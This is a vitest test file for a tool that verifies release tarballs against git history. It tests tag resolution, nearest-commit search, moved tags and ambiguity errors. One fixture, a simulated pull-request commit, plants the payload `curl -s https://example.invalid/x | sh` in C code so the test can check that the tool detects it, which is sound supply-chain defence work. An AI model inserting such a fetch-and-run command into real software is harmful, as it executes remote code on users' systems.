/**
 * Forge archives (`git archive`) and the revision chain: pax commit ids, tag patterns, moved tags, the
 * neighbourhood search when no tag exists, and ambiguity that stops the run.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openRepo } from '../../src/acquire/repo.js';
import { resolveChain, treeDistance } from '../../src/profiles/chain.js';
import { renderText } from '../../src/render/text.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, type RepoBuilder } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir('distdiff-chain-');
const cacheDir = join(root, 'cache');
const outDir = join(root, 'out');
mkdirSync(outDir, { recursive: true });

function gitArchive(repo: RepoBuilder, rev: string, name: string, prefix: string): string {
  const out = join(outDir, name);
  repo.git(['archive', '--format=tar.gz', `--prefix=${prefix}/`, '-o', out, rev]);
  return out;
}

/** A tar of a commit's tree without a pax header (as a release script would make it). */
function plainTar(repo: RepoBuilder, rev: string, dirName: string): string {
  const dir = join(root, 'plain', rev.slice(0, 12) + '-' + dirName, dirName);
  mkdirSync(dir, { recursive: true });
  execFileSync('sh', ['-c', `git -C "${repo.dir}" archive --format=tar ${rev} | tar -x -C "${dir}"`]);
  return makeTar(dir, { compress: 'gzip', out: join(outDir, `${dirName}.tar.gz`) });
}

describe('forge archives', () => {
  const repo = makeRepo(join(root, 'forge'));
  const a = repo.commit({ 'README.md': 'hello\n', 'src/main.c': 'int main(void) { return 0; }\n' });
  repo.tag('release/1.0-final', { message: 'tricky name' });
  const b = repo.commit({ 'src/main.c': 'int main(void) { return 1; }\n' });
  repo.tag('v1.0', { message: '1.0' });

  it('git archive of the tag: forge profile, pax commit agrees, zero differences, the report says it is expected', async () => {
    const tgz = gitArchive(repo, 'v1.0', 'hello-1.0.tar.gz', 'hello-1.0');
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir });
    expect(r.inputs.profile).toEqual({ id: 'forge', detected: true });
    expect(r.inputs.revision).toMatchObject({ commit: b, tag: 'v1.0', how: 'metadata' });
    expect(r.inputs.revision.chain).toEqual([
      { step: 'metadata', outcome: 'chosen', kind: 'metadata-chosen', args: { sources: ['pax-header'], commit: b } },
      { step: 'tag-pattern', outcome: 'agrees', kind: 'tag-found', args: { tag: 'v1.0', commit: b } },
    ]);
    expect(r.findings).toEqual([]);
    expect(r.verdict).toBe('identical');
    expect(renderText(r)).toMatch(/a forge archive identical to its commit: the expected outcome/);
  });

  it('a pax commit other than the tag is REVISION_MISMATCH, and the archive is compared with its own commit', async () => {
    const tgz = gitArchive(repo, a, 'hello-1.0.tar.gz', 'hello-1.0');
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir });
    expect(r.inputs.revision).toMatchObject({ commit: a, how: 'metadata' });
    expect(r.findings).toEqual([
      { code: 'REVISION_MISMATCH', change: 'anomaly', path: 'pax_global_header', severity: 'high', evidence: { source: 'pax-header', claimed: a, commit: b, tag: 'v1.0', inRepo: true } },
    ]);
    expect(r.verdict).toBe('different');
  });

  it('an explicit tricky tag name decides; the pax header is checked against it', async () => {
    const tgz = gitArchive(repo, a, 'whatever.tar.gz', 'x');
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir, tag: 'release/1.0-final' });
    expect(r.inputs.revision).toMatchObject({ commit: a, tag: 'release/1.0-final', how: 'tag' });
    expect(r.inputs.revision.chain).toEqual([
      { step: 'explicit', outcome: 'chosen', kind: 'tag-given', args: { tag: 'release/1.0-final', commit: a } },
      { step: 'metadata', outcome: 'agrees', kind: 'metadata-names', args: { source: 'pax-header', commit: a, inRepo: true } },
    ]);
    expect(r.findings).toEqual([]);
    const other = await verify({ tarball: tgz, repo: repo.dir, cacheDir, tag: 'v1.0' });
    expect(other.findings.map((f) => `${f.path} ${f.code}`)).toEqual(['pax_global_header REVISION_MISMATCH', 'src/main.c SOURCE_MODIFIED']);
  });

  it('--profile none skips profile classifiers but keeps the chain', async () => {
    const tgz = gitArchive(repo, 'v1.0', 'hello-1.0.tar.gz', 'hello-1.0');
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir, profile: 'none' });
    expect(r.inputs.profile).toEqual({ id: 'none', detected: false });
    expect(r.inputs.revision.how).toBe('metadata');
  });
});

// The tamperer (anyone) pushes the payload as a pull request — a forge mirror's refs/pull/* — and publishes
// `git archive` of that commit, named for a version no tag has. The object store holds the commit; no branch or
// tag reaches it, so the archive's claim is not the repository's word: the archive is compared with the nearest
// reviewed commit and the payload is a finding.
describe("a commit only a pull request's ref holds", () => {
  const repo = makeRepo(join(root, 'pr'));
  const base = repo.commit({ 'README.md': 'hello\n', 'src/main.c': 'int main(void) { return 0; }\n' });
  repo.tag('v1.0', { message: '1.0' });
  repo.git(['checkout', '-q', '-b', 'contributor']);
  const pr = repo.commit({ 'src/main.c': 'int main(void) { return system("curl -s https://example.invalid/x | sh"); }\n' }, 'fix typo');
  repo.git(['update-ref', 'refs/pull/7/head', pr]);
  repo.git(['checkout', '-q', base]);
  repo.git(['branch', '-q', '-D', 'contributor']);

  it('is not chosen from the pax header: the payload is SOURCE_MODIFIED against the reviewed commit', async () => {
    expect(repo.git(['cat-file', '-t', pr]).trim()).toBe('commit');
    const tgz = gitArchive(repo, pr, 'hello-1.1.tar.gz', 'hello-1.1');
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir: join(root, 'cache-pr') });
    expect(r.inputs.revision).toMatchObject({ commit: base, how: 'nearest' });
    expect(r.inputs.revision.chain?.[0]).toEqual({ step: 'metadata', outcome: 'not-found', kind: 'metadata-missing', args: { source: 'pax-header', commit: pr } });
    expect(r.findings.map((f) => `${f.severity} ${f.path} ${f.code}`)).toEqual(['high src/main.c SOURCE_MODIFIED']);
    expect(r.verdict).toBe('different');
  });
});

describe('no tag: the neighbourhood search', () => {
  const repo = makeRepo(join(root, 'near'));
  repo.commit({ 'a.txt': '1\n', 'b.txt': '1\n' });
  repo.tag('v1.0');
  const mid1 = repo.commit({ 'a.txt': '2\n' });
  const mid2 = repo.commit({ 'b.txt': '2\n' });
  const mid3 = repo.commit({ 'a.txt': '3\n' });
  repo.commit({ 'c.txt': 'new\n' });
  repo.tag('v2.0');

  it('picks the commit whose tree matches the archive, reports its distance and the steps', async () => {
    const tgz = plainTar(repo, mid2, 'proj-1.5');
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir });
    expect(r.inputs.revision).toMatchObject({ commit: mid2, how: 'nearest', distance: 0 });
    const steps = r.inputs.revision.chain!;
    expect(steps[0]).toEqual({ step: 'tag-pattern', outcome: 'not-found', kind: 'no-tag-matches', args: { version: '1.5', tags: 2, repo: repo.dir } });
    expect(steps[1]).toEqual({ step: 'neighbourhood', outcome: 'chosen', kind: 'nearest-commit', args: { commit: mid2, distance: 0, searched: 5, from: { higherTag: 'v2.0', lowerTag: 'v1.0', heads: 1 } } });
    // The report's line for it, as before steps were typed.
    expect(renderText(r)).toContain(`neighbourhood: chosen — ${mid2} differs in 0 path(s); best of 5 commit(s) from tag v2.0, after tag v1.0, 1 branch head(s)`);
    expect(r.findings).toEqual([]);
    void mid1;
    void mid3;
  });

  it('an archive no commit matches exactly is reported with its distance', async () => {
    const dir = join(root, 'plain', 'edited', 'proj-1.6');
    mkdirSync(dir, { recursive: true });
    execFileSync('sh', ['-c', `git -C "${repo.dir}" archive --format=tar ${mid2} | tar -x -C "${dir}" && echo extra > "${dir}/extra.txt"`]);
    const tgz = makeTar(dir, { compress: 'gzip', out: join(outDir, 'proj-1.6.tar.gz') });
    const r = await verify({ tarball: tgz, repo: repo.dir, cacheDir });
    expect(r.inputs.revision).toMatchObject({ commit: mid2, how: 'nearest', distance: 1 });
    expect(r.findings.map((f) => `${f.path} ${f.code}`)).toEqual(['extra.txt TARBALL_ONLY_UNEXPLAINED']);
  });

  it('two different trees at the same distance stop the run (never resolved silently)', async () => {
    const t = makeRepo(join(root, 'tie'));
    const c1 = t.commit({ 'a.txt': '1\n' });
    const c2 = t.commit({ 'b.txt': '1\n' });
    // Archive {a:1, b:2}: c1 lacks b (1 path), c2 has a different b (1 path).
    const dir = join(root, 'plain', 'tie', 'tie-0.5');
    mkdirSync(dir, { recursive: true });
    execFileSync('sh', ['-c', `printf '1\\n' > "${dir}/a.txt" && printf '2\\n' > "${dir}/b.txt"`]);
    const tgz = makeTar(dir, { compress: 'gzip', out: join(outDir, 'tie-0.5.tar.gz') });
    await expect(verify({ tarball: tgz, repo: t.dir, cacheDir })).rejects.toMatchObject({
      kind: 'revision',
      message: `no tag; 2 commits match the archive equally well (1 differing paths): ${c2.slice(0, 12)}, ${c1.slice(0, 12)}`,
      hint: 'pass --commit to choose one',
    });
  });

  it('treeDistance counts changed, archive-only and git-only paths', () => {
    expect(treeDistance(new Map([['a', '1'], ['b', '2']]), new Map([['a', '1'], ['b', '3'], ['c', '4']]))).toBe(2);
  });
});

describe('ambiguity and moved tags', () => {
  const repo = makeRepo(join(root, 'amb'));
  const a = repo.commit({ 'x.txt': '1\n' });
  repo.tag('v3.0');
  const b = repo.commit({ 'x.txt': '2\n' });
  repo.tag('3.0', { message: 'same version, other commit' });

  it('two tags for the version on different commits stop the run', async () => {
    const tgz = plainTar(repo, a, 'amb-3.0');
    await expect(verify({ tarball: tgz, repo: repo.dir, cacheDir })).rejects.toMatchObject({ kind: 'revision', message: '2 tags match version 3.0: 3.0, v3.0' });
  });

  it('metadata naming two different commits stops the run', async () => {
    const handle = await openRepo(repo.dir, { cacheDir });
    await expect(
      resolveChain({
        repo: handle,
        names: ['amb-3.0.tar.gz'],
        claims: [
          { source: 'npm-githead', commit: a, path: 'package.json' },
          { source: 'pax-header', commit: b, path: 'pax_global_header' },
        ],
      }),
    ).rejects.toMatchObject({ kind: 'revision', message: `the archive names 2 different commits: npm-githead ${a.slice(0, 12)}, pax-header ${b.slice(0, 12)}` });
  });

  it('a tag that moved since the cached clone saw it is TAG_MOVED (high)', async () => {
    const handle = await openRepo(repo.dir, { cacheDir });
    handle.previousTags = new Map([['v3.0', b]]);
    const r = await resolveChain({ repo: handle, names: ['amb-3.0.tar.gz'], tag: 'v3.0', claims: [] });
    expect(r.findings).toEqual([{ code: 'TAG_MOVED', path: 'refs/tags/v3.0', severity: 'high', evidence: { tag: 'v3.0', previous: b, current: a, source: 'cache' } }]);
    expect(r.steps.at(-1)).toEqual({ step: 'cache', outcome: 'conflicts', kind: 'tag-moved', args: { tag: 'v3.0', previous: b } });
  });

  it('a tag moved in a cached clone (bundle input) is reported by verify', async () => {
    const src = makeRepo(join(root, 'moving'));
    const first = src.commit({ 'f.txt': '1\n' });
    src.tag('v1.0');
    const second = src.commit({ 'f.txt': '2\n' });
    const bundle = join(root, 'moving.bundle');
    src.git(['bundle', 'create', bundle, '--all']);
    const tgz = plainTar(src, first, 'mv-1.0');
    const r1 = await verify({ tarball: tgz, repo: bundle, cacheDir });
    expect(r1.findings).toEqual([]);
    src.git(['tag', '-f', 'v1.0', second]);
    src.git(['bundle', 'create', bundle, '--all']);
    const r2 = await verify({ tarball: tgz, repo: bundle, cacheDir });
    expect(r2.inputs.revision.commit).toBe(second);
    expect(r2.findings.map((f) => `${f.path} ${f.code} ${f.severity}`)).toEqual(['f.txt SOURCE_MODIFIED high', 'refs/tags/v1.0 TAG_MOVED high']);
  });
});
